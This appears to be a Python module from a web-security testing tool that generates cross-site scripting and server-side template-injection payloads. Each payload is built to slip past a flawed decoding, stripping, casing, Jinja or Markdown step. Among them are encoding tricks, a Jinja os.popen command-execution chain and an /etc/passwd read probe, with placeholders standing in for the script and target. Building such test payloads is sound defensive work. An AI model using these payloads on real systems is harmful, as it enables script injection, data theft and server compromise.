"""Payloads that are harmless as they stand, and run after one step too many: decoding, stripping, rendering."""

from __future__ import annotations

import base64
import html
import json
import quopri
import re
import unicodedata
from urllib.parse import quote, unquote

import jinja2
import markdown

from .payload import HERE, Change, Payload, elsewhere

SCRIPT = "<script>RUN</script>"
IMAGE = '<img src=x onerror="RUN">'


def twice(change: Change) -> Change:
    """The change, done twice."""
    return lambda text: change(change(text))


def thrice(change: Change) -> Change:
    """The change, done three times."""
    return lambda text: change(change(change(text)))


def each(form: str) -> Change:
    """Every character that is no letter or digit in another form: "&#{};" or "%{:02X}"."""
    return lambda text: "".join(one if one.isalnum() else form.format(ord(one)) for one in text)


def broad(text: str) -> str:
    """Brackets and signs as wide as East Asian letters; they look alike and fold to each other."""
    return "".join(chr(ord(one) + 0xFEE0) if one in "<>='\"/" else one for one in text)


def seven_bit(text: str) -> str:
    """In UTF-7, where brackets look like letters."""
    return text.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-").replace("=", "+AD0-")


def overlong(text: str) -> str:
    """Brackets as two bytes where UTF-8 allows one (RFC 3629 section 10), as a Latin decoder shows them."""
    return text.replace("<", "\xc0\xbc").replace(">", "\xc0\xbe")


def without(*parts: str) -> Change:
    """Takes parts out once, as naive cleaners do."""
    pattern = re.compile("|".join(parts), re.I | re.S)
    return lambda text: pattern.sub("", text)


def split_by(part: str) -> Change:
    """A part that will be taken out stands in the middle of every element's name."""
    return lambda text: re.sub(r"(</?[a-z]{2})", rf"\g<1>{part}", text)


def jinja(text: str) -> str:
    """Rendered as a template."""
    return jinja2.Environment(autoescape=False).from_string(text).render()  # noqa: S701 — the mistake is meant


DECODED = [
    Payload(pattern, spelt=spelt, mistake=mistake)
    for spelt, mistake in (
        (html.escape, html.unescape),
        (twice(html.escape), twice(html.unescape)),
        (thrice(html.escape), thrice(html.unescape)),
        (each("&#{};"), html.unescape),
        (each("&#x{:x};"), html.unescape),
        (each("&#{:07};"), html.unescape),
        (quote, unquote),
        (twice(quote), twice(unquote)),
        (broad, lambda text: unicodedata.normalize("NFKC", text)),
        (seven_bit, lambda text: text.encode().decode("utf-7")),
        (overlong, lambda text: text.replace("\xc0\xbc", "<").replace("\xc0\xbe", ">")),
        (each("\\u{:04x}"), lambda text: str(json.loads(f'"{text}"'))),
        (each("={:02X}"), lambda text: quopri.decodestring(text).decode()),
        (lambda text: quote(html.escape(text)), lambda text: html.unescape(unquote(text))),
    )
    for pattern in (SCRIPT, IMAGE)
] + [
    Payload(
        IMAGE,
        spelt=lambda text: base64.b64encode(text.encode()).decode(),
        mistake=lambda t: base64.b64decode(t).decode(),
    )
]

# The parts are what cleaners drop: characters without width, a tag, a comment, a word; and what calendars fold.
STRIPPED = [
    Payload(pattern, spelt=split_by(part), mistake=without(re.escape(part)))
    for part in (
        "\0",
        "\x08",
        "\u00ad",
        "\u200b",
        "\ufeff",
        "\u202e",
        "\ufffe",
        "<!---->",
        "<b>",
        "<script>",
        "\r\n ",
        "]]>",
    )
    for pattern in (SCRIPT, IMAGE)
]

CASED = [
    Payload("<\u017fvg onload=&#114;&#97;&#110;(NUMBER)>", mistake=str.upper),  # long s
    Payload("<lin\u212a rel=stylesheet href=AWAY>", mistake=str.lower),  # the sign for Kelvin
]

TEMPLATES = [
    Payload("{{ '<script>RUN</script>' }}", mistake=jinja),
    Payload("{{ '\\x3csvg onload=RUN\\x3e' }}", mistake=jinja),
    Payload("{% if 1 %}<svg onload=RUN>{% endif %}", mistake=jinja),
    Payload("{# --> #}<svg onload=RUN>", mistake=jinja),
    Payload("<im{{ 'g' }} src=AWAY>", mistake=jinja),
    *elsewhere(
        "{{7*7}}RUN",
        "{{ cycler.__init__.__globals__.os.popen('echo RUN').read() }}",
        "{{constructor.constructor('RUN')()}}",
        "{{{html}}} ${RUN} #{RUN} <%= RUN %> <?php RUN ?> *{RUN}",
        '<!--#include virtual="AWAY" --><esi:include src=AWAY />',
        "{attach}/etc/passwd {static}/../RUN |filename|RUN",
        "{0.__class__} %(RUN)s %n%s{RUN}",
    ),
]

MARKDOWN = [
    *(
        Payload(pattern, mistake=markdown.markdown, click=True)
        for pattern in (
            "[go](javascript:RUN)",
            "[go](JavaScript:RUN 'x')",
            "[go](&#106;avascript:RUN)",
            "[go][x]\n\n[x]: javascript:RUN",
            "[go](AWAY)",
        )
    ),
    *(
        Payload(pattern, mistake=markdown.markdown)
        for pattern in ("![x](AWAY)", "![x][y]\n\n[y]: AWAY", "**x**<svg onload=RUN>", "# x\n\n<script>RUN</script>")
    ),
]

FOLDED = [
    Payload("BEGIN:VALARM\r\nATTACH:AWAY\r\nDESCRIPTION:<svg onload=RUN>\r\nEND:VALARM", context=f"<p>{HERE}</p>")
]

PAYLOADS = [*DECODED, *STRIPPED, *CASED, *TEMPLATES, *MARKDOWN, *FOLDED]
